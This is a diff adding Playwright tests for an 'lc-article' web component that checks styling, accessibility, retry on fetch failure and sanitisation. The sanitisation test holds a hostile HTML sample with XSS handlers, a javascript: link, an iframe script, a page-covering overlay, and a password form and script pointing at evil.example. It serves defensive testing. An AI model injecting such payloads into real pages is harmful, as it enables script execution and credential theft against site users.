@@ -1,0 +1,58 @@
+import { axeViolations, expect, test } from './fixtures';
+
+const PATH = '/public/post/first/index.html';
+
+test.describe('lc-article', () => {
+  test('shows the page under its own styles and runs its scripts from the host list', async ({
+    page,
+    store,
+  }) => {
+    await page.goto(store.url('www', '/support.html'));
+    const article = page.locator('lc-article').getByRole('article', { name: '新手指南' });
+    await expect(article.getByRole('heading', { name: '新手采购指南' })).toHaveCSS(
+      'color',
+      'rgb(20, 86, 200)',
+    );
+    await expect(article.getByRole('table')).toHaveCSS('border-collapse', 'collapse');
+    await expect(article.getByRole('link', { name: '查看帮助中心' })).toHaveAttribute(
+      'href',
+      store.url('www', '/help/101.html'),
+    );
+    await expect.poll(() => page.evaluate(() => Reflect.get(window, 'articleScript'))).toBe(true);
+    expect(await page.evaluate(() => Reflect.get(window, 'articleInline'))).toBe(true);
+    expect(await axeViolations(page, 'lc-article')).toEqual([]);
+  });
+
+  test('that cannot be fetched says so, and shows it on the second try', async ({ page, store }) => {
+    await store.fault({ call: PATH, kind: 'refuse' });
+    await page.goto(store.url('www', '/support.html'));
+    const element = page.locator('lc-article');
+    await expect(element.getByText('内容加载失败')).toBeVisible();
+    expect(await axeViolations(page, 'lc-article')).toEqual([]);
+    await store.clearFaults();
+    await element.getByRole('button', { name: '重试' }).click();
+    await expect(element.getByRole('heading', { name: '新手采购指南' })).toBeVisible();
+  });
+
+  test('of a hostile server runs nothing and covers nothing (gap 27)', async ({ page, store }) => {
+    const hostile = `<title>x</title><style>div{position:fixed;inset:0;z-index:2147483647;background:red}</style>
+      <body><div id="cover">cover</div><img src="/none.png" onerror="window.hacked=1"><svg onload="window.hacked=2"></svg>
+      <a href="javascript:window.hacked=3">link</a><iframe srcdoc="<script>top.hacked=4</script>"></iframe>
+      <form action="https://evil.example/"><input name="password"></form>
+      <script src="https://evil.example/x.js"></script><p>readable</p></body>`;
+    const foreign: string[] = [];
+    page.on('request', (request) => {
+      if (request.url().includes('evil.example')) foreign.push(request.url());
+    });
+    await page.route(`**${PATH}`, (route) => route.fulfill({ contentType: 'text/html', body: hostile }));
+    await page.goto(store.url('www', '/support.html'));
+    const element = page.locator('lc-article');
+    await expect(element.getByText('readable')).toBeVisible();
+    await expect(element.getByText('link')).not.toHaveAttribute('href', /./);
+    await expect(element.locator('iframe, form, input, svg[onload], [onerror]')).toHaveCount(0);
+    const [host, cover] = await Promise.all([element.boundingBox(), element.locator('#cover').boundingBox()]);
+    expect(cover?.height).toBeLessThanOrEqual(host?.height ?? 0);
+    expect(await page.evaluate(() => Reflect.get(window, 'hacked'))).toBeUndefined();
+    expect(foreign).toEqual([]);
+  });
+});
